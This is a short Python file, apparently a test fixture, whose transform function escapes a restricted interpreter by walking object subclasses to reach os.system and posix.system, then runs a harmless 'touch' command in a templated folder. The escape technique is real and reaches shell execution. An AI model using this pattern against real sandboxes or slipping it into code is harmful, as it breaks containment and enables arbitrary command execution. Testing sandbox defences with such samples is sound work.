# Finds a way out among the subclasses of object.


def transform(source):
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "_wrap_close":
            kind.__init__.__globals__["system"]("touch @FOLDER@/created")
        if kind.__name__ == "BuiltinImporter":
            kind.load_module("posix").system("touch @FOLDER@/created")
    return source
